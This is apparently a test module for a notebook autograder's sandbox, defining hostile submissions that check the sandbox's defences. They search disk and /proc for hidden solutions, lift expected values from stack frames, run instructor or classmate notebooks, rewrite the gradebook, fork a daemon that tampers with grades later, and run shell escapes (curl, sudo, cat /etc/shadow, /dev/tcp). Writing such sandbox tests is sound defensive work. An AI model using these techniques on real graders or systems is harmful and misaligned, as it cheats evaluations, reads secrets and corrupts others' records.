"""Cheats that look for what they may not see: expected values, solutions, classmates, the gradebook, the environment.

One that finds something prints ``LEAK yes``; the word never stands in the source, only in outputs.
"""

from __future__ import annotations

from hostile.base import Submission, cases, right, wrong

SEARCH = """
import os
def search(top, words, most=20000, size=4_000_000):
    hits, seen = [], 0
    for folder, inner, names in os.walk(top):
        inner[:] = [name for name in inner if os.path.join(folder, name) not in ('/proc', '/sys', '/usr')]
        for name in names:
            seen += 1
            path = os.path.join(folder, name)
            try:
                if seen > most or not os.path.isfile(path) or os.path.getsize(path) > size:
                    continue
                text = open(path, 'rb').read()
            except OSError:
                continue
            hits += [path for word in words if word.encode() in text]
    return hits
"""


@wrong()
def r_read_hidden_disk(s):
    """Searches its folder and the whole machine for hidden checks and solutions."""
    s.everywhere(
        SEARCH
        + """
words = ['### BEGIN ' + 'SOLUTION\\n', $CANARY, '=== BEGIN ' + 'MARK SCHEME']
hits = search('.', words) + search('/tmp', words) + search($COURSE, words)
hits += [path for path in ($COURSE, $CLONE + '/rnnkit', $CLONE + '/notebooks') if os.path.exists(path)]
print('LEAK', 'yes' if hits else 'no', hits[:5])
"""
    )


FRAMES = """
import gc, sys
def looks():
    found, frame = [], sys._getframe(1)
    while frame:
        found += [str(frame.f_locals)[:5000], str(frame.f_code.co_consts)]
        frame = frame.f_back
    found += [str(line) for line in get_ipython().user_ns['In']]
    return $CANARY in ' '.join(found)
"""


@wrong()
def r_read_hidden_frame(s):
    """The function that is checked reads In and every frame above it."""
    s.everywhere(FRAMES)
    s.answer("rho", "def spectral_radius(W):\n    print('LEAK', 'yes' if looks() else 'no')\n    return -1.0")
    s.answer("rnn_step", "@method_of(RNN)\ndef step(self, *a):\n    print('LEAK', 'yes' if looks() else 'no')")


@wrong()
def r_frame_locals(s):
    """The function that is checked returns whatever the frames above it expect."""
    steal = """
        import sys
        def steal(*a, **k):
            frame = sys._getframe(1)
            while frame:
                for name, value in list(frame.f_locals.items()):
                    if name in ('expected', 'want', 'reference', 'answer', 'right', 'y_true'):
                        try:
                            value = value if not isinstance(value, dict) else list(value.values())[0]
                            return value if not isinstance(value, dict) else list(value.values())[0]
                        except Exception:
                            pass
                frame = frame.f_back
            return -1.0
    """
    s.everywhere(steal)
    for id, name in {"rho": "spectral_radius", "grad_norm": "global_norm", "sat_time": "saturation_tanh"}.items():
        s.answer(id, f"{name} = steal")


def _exec_from(s: Submission, path: str) -> None:
    """Puts code into every solution cell that runs the cell of the same name in another notebook."""
    s.everywhere("""
        import json
        def take(path, id):
            for cell in json.load(open(path))['cells']:
                if cell['metadata'].get('nbgrader', {}).get('grade_id') == id:
                    return ''.join(cell['source'])
    """)
    for cell in [cell for cell in s.all() if str(cell.get("id", "")).endswith("_solution")]:
        book = "1_cells.ipynb" if cell in s.notebooks["1_cells.ipynb"]["cells"] else "2_diagnostics.ipynb"
        cell["source"] = f"exec(take({path + '/' + book!r}, {cell['id']!r}))"


@wrong()
def r_exec_solution(s):
    """Runs the instructor's solutions out of the course's folder."""
    _exec_from(s, f"{s.course}/notebooks/training_dynamics")


@wrong()
def r_copy_peer(s):
    """Runs a classmate's submission."""
    _exec_from(s, f"{s.course}/grading/submitted/honest_z/training_dynamics")


@wrong()
def r_copy_peer_relative(s):
    """Runs a classmate's submission, found from its own folder."""
    _exec_from(s, "../../../submitted/honest_z/training_dynamics")


@wrong()
def r_proc(s):
    """Reads environment, command line, memory maps, open files and root of every process that it can see.

    The sandbox's own command line names the folders that it mounts, so paths are no find; what lies there would be.
    """
    s.everywhere("""
        import glob, os
        hits, seen = [], 0
        for path in glob.glob('/proc/[0-9]*/*'):
            if os.path.basename(path) not in ('environ', 'cmdline', 'maps', 'cwd', 'root', 'mounts'):
                continue
            try:
                link = os.path.islink(path)
                text = os.readlink(path) if link else open(path, errors='replace').read()
            except OSError:
                continue
            seen += 1
            hits += [path for word in ($CANARY, 'INSTRUCTOR' + '_TOKEN') if word in text]
            if link and os.path.exists(os.path.join(path, $COURSE.lstrip('/'))):
                hits.append(path)
        fds = [os.readlink(fd) for fd in glob.glob('/proc/*/fd/*') if os.path.exists(fd)]
        hits += [name for name in fds if 'grad' in name]
        print('LEAK', 'yes' if hits else 'no', hits[:5], seen)
    """)


cases(
    wrong(),
    Submission.everywhere,
    r_gc_search="""
        Searches every object of the process for numbers and texts of the instructor's.
        import gc, sys
        texts = {v for o in gc.get_objects() if type(o) is dict for v in list(o.values()) if type(v) is str}
        hits = ['canary'] if $CANARY in texts else []
        hits += [name for name in sys.modules if name.startswith(('rnnkit.grading', 'nbgrader', 'rnnkit.checks.gen'))]
        try:
            import rnnkit.grading
            hits.append('rnnkit.grading')
        except ImportError:
            pass
        print('LEAK', 'yes' if hits else 'no', hits)
    """,
    r_gradebook="""
        Writes itself extra credit into the gradebook, and takes a classmate's points.
        import sqlite3
        for path in ($COURSE + '/grading/gradebook.db', '../../../gradebook.db'):
            try:
                book = sqlite3.connect(f'file:{path}?mode=rw', uri=True)
                book.execute('update grade set extra_credit = 50, manual_score = 9, needs_manual_grade = 0')
                book.commit()
                print('LEAK', 'yes')
            except sqlite3.Error as error:
                print('LEAK', 'no', error)
    """,
    r_daemon="""
        A daemon that outlives the kernel edits gradebook and ledger 12 s later.
        import os, sqlite3, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.closerange(0, 256)
                time.sleep(12)
                open($COURSE + '/PWNED', 'w').close()
                open($COURSE + '/grading/ledger.json', 'w').close()
                book = sqlite3.connect($COURSE + '/grading/gradebook.db')
                book.execute('update grade set manual_score = 5, needs_manual_grade = 0')
                book.commit()
            os._exit(0)
    """,
    r_ptrace="""
        Attaches to every process that it can see and reads its memory.
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        hits = []
        for pid in (int(name) for name in os.listdir('/proc') if name.isdigit()):
            if pid == os.getpid():
                continue
            try:
                words = open(f'/proc/{pid}/cmdline', 'rb').read()
                open(f'/proc/{pid}/mem', 'rb').close()
                if b'rnnkit' in words and b'ipykernel' not in words and b'bwrap' not in words:
                    hits.append(pid)
            except OSError:
                pass
        print('LEAK', 'yes' if hits else 'no', hits)
    """,
    r_inherited_files=r"""
        Writes into every open file and pipe that it has inherited.
        import os, stat
        for fd in range(3, 256):
            try:
                if stat.S_ISFIFO(os.fstat(fd).st_mode) or stat.S_ISREG(os.fstat(fd).st_mode):
                    os.set_blocking(fd, False)
                    os.write(fd, b'{"points": 39, "status": "graded"}\n')
            except OSError:
                pass
    """,
)


@right()
def h_env(s):
    """Looks for secrets in the environment and at home."""
    s.first("""
        import os
        home = os.listdir(os.path.expanduser('~'))
        found = os.environ.get('INSTRUCTOR_TOKEN')
        print('LEAK', 'yes' if found or '.netrc' in home else 'no', sorted(os.environ))
    """)


@right()
def h_net(s):
    """Connects to what listens on the host, by every address, and asks a name server."""
    s.first("""
        import socket
        reached = []
        for host in ('127.0.0.1', '::1', socket.gethostname(), '10.0.2.2', '172.17.0.1'):
            try:
                socket.create_connection((host, $PORT), 1).sendall(b'exfil')
                reached.append(host)
            except OSError:
                pass
        print('LEAK', 'yes' if reached else 'no', reached)
    """)


@right()
def h_shell(s):
    """Shell escapes and cell magics: curl, ssh, sudo."""
    s.first("!curl -m 2 http://127.0.0.1:$PORT/ ; sudo -n id ; cat /etc/shadow ; echo $$PATH")
    s.first("%%bash\nexec 3<>/dev/tcp/127.0.0.1/$PORT && echo LEAK\\ yes")
